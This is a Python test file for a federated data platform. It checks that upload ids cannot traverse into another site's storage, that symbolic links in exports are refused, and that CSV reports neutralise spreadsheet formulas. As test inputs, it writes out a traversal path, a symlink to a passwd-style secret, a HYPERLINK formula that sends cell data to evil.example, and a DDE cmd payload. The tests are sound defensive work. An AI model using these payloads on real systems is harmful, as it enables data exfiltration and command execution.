"""Smaller channels (issue 8, item 11): ids that walk out of their folder, symbolic links inside an export,
and spreadsheet formulas in the CSV the platform writes. Each test first shows what the channel would do."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest

from federation.config import SiteConfig
from federation.csvsafe import safe
from federation.ingest.landing import UploadError
from federation.settings import Settings
from federation.storage import layout
from tests.ingest.helpers import upload
from tests.validation.helpers import validate_folder

STUDY = "PONC-WT-01"
TRAVERSAL = "../../harmonized/site-c/PONC-WT-01/_versions"



def test_an_upload_id_cannot_walk_into_another_sites_data(backend: Settings, export: Path) -> None:
    # unchecked, the id turns the landing prefix into a path in another site's harmonized versions
    unchecked = f"{layout.landing_site(backend.storage, 'site-a')}{TRAVERSAL}/"
    assert unchecked.startswith("landing/site-a/../../harmonized/site-c/")

    with pytest.raises(layout.InvalidName, match="not a valid id"):
        upload(backend, "site-a", export, upload_id=TRAVERSAL)
    for bad in ("..", "a/b", "", ".hidden", "x" * 81):
        with pytest.raises(layout.InvalidName):
            layout.catalog_key(backend.storage, "site-a", bad)
    with pytest.raises(layout.InvalidName):
        layout.version_key(backend.storage, "site-a", "../site-c/PONC-WT-01", 1)
    assert layout.parse_landing_key(backend.storage, "landing/site-a/../manifest.json") is None
    # nothing was written anywhere
    root = backend.storage.root
    if root is not None:
        assert not [p for p in Path(root).rglob("*") if p.is_file()]


def test_a_symbolic_link_in_an_export_is_never_followed(export: Path, clean_exports: Path, tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("root:x:0:0:SECRET-FIRST-LINE\n", encoding="utf-8")
    (export / "patients.csv").unlink()
    (export / "patients.csv").symlink_to(secret)
    assert (export / "patients.csv").read_text().startswith("root:")  # the link works: following it reads the file

    site = SiteConfig.from_yaml(clean_exports / "sites" / "site-a.yaml")
    report = validate_folder(export, site)
    assert report.status == "unusable" and report.exit_code == 2
    links = [f for f in report.unusable if f.rule == "symbolic_link"]
    assert links and links[0].file == "patients.csv" and links[0].hint
    assert "SECRET-FIRST-LINE" not in json.dumps(report.to_dict())
    written = report.write(tmp_path / "report")
    assert all("SECRET-FIRST-LINE" not in p.read_text(encoding="utf-8") for p in written.values())


def test_an_upload_refuses_symbolic_links(backend: Settings, export: Path, tmp_path: Path) -> None:
    (export / "extra.csv").symlink_to(tmp_path)
    with pytest.raises(UploadError, match="symbolic links"):
        upload(backend, "site-a", export)


def test_failures_csv_neutralises_spreadsheet_formulas(export: Path, clean_exports: Path, tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    lines = (export / "patients.csv").read_text(encoding="utf-8").splitlines()
    header = next(csv.reader([lines[0]], delimiter=";" if ";" in lines[0] else ","))
    delim = ";" if ";" in lines[0] else ","
    row = next(csv.reader([lines[1]], delimiter=delim))
    row[header.index("sex")] = formula
    buf = __import__("io").StringIO()
    csv.writer(buf, delimiter=delim, lineterminator="").writerow(row)
    lines[1] = buf.getvalue()
    (export / "patients.csv").write_text("\n".join(lines) + "\n", encoding="utf-8")

    site = SiteConfig.from_yaml(clean_exports / "sites" / "site-a.yaml")
    report = validate_folder(export, site)
    assert any(f.value == formula for f in report.findings)  # the finding quotes the value as the site wrote it
    paths = report.write(tmp_path / "report")
    with paths["csv"].open(encoding="utf-8") as fh:
        cells = [c for r in csv.reader(fh) for c in r]
    assert formula not in cells and "'" + formula in cells
    assert not any(c.startswith(("=", "+", "@")) for c in cells)


def test_safe_keeps_numbers_and_text_and_quotes_formulas() -> None:
    assert safe("-3") == "-3" and safe("-1.5e3") == "-1.5e3" and safe(7) == 7 and safe("site-a") == "site-a"
    assert safe("=1+1") == "'=1+1" and safe("+cmd|' /C calc'!A0") == "'+cmd|' /C calc'!A0"
    assert safe("@SUM(A1)") == "'@SUM(A1)" and safe("-2+3") == "'-2+3" and safe("\t=1") == "'\t=1"
